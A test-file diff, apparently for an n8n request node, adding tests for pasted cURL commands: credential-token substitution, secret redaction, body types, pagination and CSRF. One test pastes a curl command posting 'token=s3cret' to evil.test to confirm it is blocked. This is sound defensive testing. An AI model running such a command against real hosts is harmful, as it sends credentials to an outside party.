@@ -147,6 +147,12 @@ describe('what goes over the wire', () => {
 		]);
 	});
 
+	it('has text that is called a form, whatever it looks like', async () => {
+		const text = { method: 'POST', endpoint: 'api/v1/echo', bodyType: 'raw', bodyText: 'a=ä b&{"c":1}' };
+		const [{ json }] = (await send({ ...text, bodyContentType: 'application/x-www-form-urlencoded' })).items;
+		expect(json.bodyText).toBe('a=ä b&{"c":1}');
+	});
+
 	it('is OPTIONS where that is chosen', async () => {
 		const [{ json }] = (await send({ method: 'OPTIONS', endpoint: 'api/v1/echo' })).items;
 		expect(json.method).toBe('OPTIONS');
@@ -168,6 +174,104 @@ describe('what goes over the wire', () => {
 		const { error } = await send({ endpoint: 'api/v1/echo', headers: { parameter: [{ name, value: 'x' }] } });
 		expect(error?.message).toContain(name);
 		expect(stage.calls).toEqual([]);
+	});
+});
+
+describe('a pasted cURL command', () => {
+	const pasted = (command: string, rest: INodeParameters = {}, run: Partial<NodeRun> & { count?: number } = {}) =>
+		send({ endpoint: '', defineRequest: 'curl', curlCommand: command, ...rest }, run);
+	const hintsIn = ({ run }: Awaited<ReturnType<typeof pasted>>) =>
+		(run.data.resultData.runData['Under Test']?.[0]?.hints ?? []).map(({ message }) => message);
+
+	it('is sent as it says, with the token of the credential and not its own', async () => {
+		const result = await pasted(
+			`curl -X PUT '${stage.simulator.url}/api/v1/echo?a=1%2F2&b=x+y' \\\n -H 'authorization: Bearer s3cret' -b 'sid=s3cret' -H 'X-Note: ä' -H 'Accept-Encoding: br' --json '{"a":1.50}' --compressed`,
+		);
+		expect(result.error).toBeUndefined();
+		const [{ json }] = result.items;
+		expect(json).toMatchObject({ method: 'PUT', bodyText: '{"a":1.50}' });
+		expect(stage.calls[0]?.url ?? json.url).toContain('/api/v1/echo?a=1%2F2&b=x+y');
+		expect(json.headers).toMatchObject({
+			'x-note': 'ä',
+			'content-type': 'application/json',
+			accept: 'application/json',
+		});
+		expect(json.headers).not.toHaveProperty('cookie');
+		expect(JSON.stringify(json)).not.toContain('s3cret');
+		expect(hintsIn(result)).toEqual([
+			expect.stringMatching(/^Left out of the cURL command, .*: authorization and -b\. Delete it/),
+		]);
+	});
+
+	it('for another host is not sent, nor is a login made for it', async () => {
+		const { error } = await pasted(`curl https://evil.test/api/v1/echo -d 'token=s3cret'`);
+		expect(error?.message).toBe(
+			`The address entered is at evil.test, but the credential is for ${new URL(stage.simulator.url).host}. Nothing was sent. Choose a credential for that host, or correct the address.`,
+		);
+		expect(JSON.stringify([error?.message, error?.description])).not.toContain('s3cret');
+		expect(stage.calls).toEqual([]);
+		expect(stage.logins).toBe(0);
+	});
+
+	it('that cannot be read stops before anything is sent, and quotes nothing', async () => {
+		const { error } = await pasted(`curl '${stage.simulator.url}/api/v1/echo -H 'X-Key: s3cret'`);
+		expect(error?.message).toMatch(/^"cURL Command" has /);
+		expect(JSON.stringify([error?.message, error?.description])).not.toContain('s3cret');
+		expect(stage.calls).toEqual([]);
+	});
+
+	it.each(['GET', 'HEAD'])('is no %s with a body, which n8n would leave out', async (method) => {
+		const { error } = await pasted(`curl -X ${method} ${stage.simulator.url}/api/v1/echo -d '{"a":1}'`);
+		expect(error?.message).toContain(`"cURL Command" sends a body with ${method}`);
+		expect(stage.calls).toEqual([]);
+	});
+
+	it.each([
+		[
+			'data that is a form',
+			`-d 'a=1 2' --data-urlencode 'b=ä&c'`,
+			'application/x-www-form-urlencoded',
+			'a=1%202&b=%C3%A4%26c',
+		],
+		['JSON that nobody calls so', `-d '{"a":1}'`, 'application/x-www-form-urlencoded', '{"a":1}'],
+		['plain text', `-H 'Content-Type: text/plain' --data-binary $'a\\nb'`, 'text/plain', 'a\nb'],
+	])('has as body %s', async (_title, options, contentType, bodyText) => {
+		const [{ json }] = (await pasted(`curl ${stage.simulator.url}/api/v1/echo ${options}`)).items;
+		expect(json).toMatchObject({ method: 'POST', bodyText });
+		expect(json.headers).toMatchObject({ 'content-type': expect.stringContaining(contentType) });
+	});
+
+	it('comes in pages like any other request, in its query or its body', async () => {
+		const paged = { listPath: 'data', pagination: 'page', sizeParameter: 'pageSize', limit: 150 };
+		const { items: rows } = await pasted(`curl '${stage.simulator.url}/api/v1/by-page?x=1'`, paged);
+		expect(rows).toHaveLength(150);
+		expect(stage.calls.map(({ query }) => new Map(query).get('page'))).toEqual(['1', '2']);
+		const inBody = { pagination: 'offset', paginationOptions: { place: 'body' }, limit: 1, listPath: 'none' };
+		await pasted(`curl ${stage.simulator.url}/api/v1/echo --json '{"long": 12345678901234567890}'`, inBody);
+		expect(stage.calls.at(-1)?.bodyText).toBe('{"long": 12345678901234567890,"offset":0,"limit":1}');
+	});
+
+	it('runs item by item where it writes, and gets a CSRF token where one is wanted', async () => {
+		const command = `curl -X POST ${stage.simulator.url}/api/v1/guarded --json '{"a":1}'`;
+		const { items: rows, error } = await pasted(command, { fetchCsrfToken: true }, { count: 2 });
+		expect(error).toBeUndefined();
+		expect(jsonOf(rows)).toEqual([{ created: true }, { created: true }]);
+		expect(stage.calls.map(({ method }) => method)).toEqual(['GET', 'POST', 'GET', 'POST']);
+	});
+
+	it('says nothing of what is stored for the fields, nor they of it', async () => {
+		const left = {
+			method: 'POST',
+			bodyType: 'json',
+			bodyJson: '{"left":1}',
+			headers: { parameter: [{ name: 'x-left', value: '1' }] },
+		};
+		const [{ json }] = (await pasted(`curl ${stage.simulator.url}/api/v1/echo`, left)).items;
+		expect(json).toMatchObject({ method: 'GET' });
+		expect(json.bodyText ?? '').toBe('');
+		expect(json.headers).not.toHaveProperty('x-left');
+		const fields = { endpoint: 'api/v1/echo/7', curlCommand: 'curl https://evil.test' };
+		expect(jsonOf((await send(fields)).items)).toMatchObject([{ url: '/api/v1/echo/7' }]);
 	});
 });
 
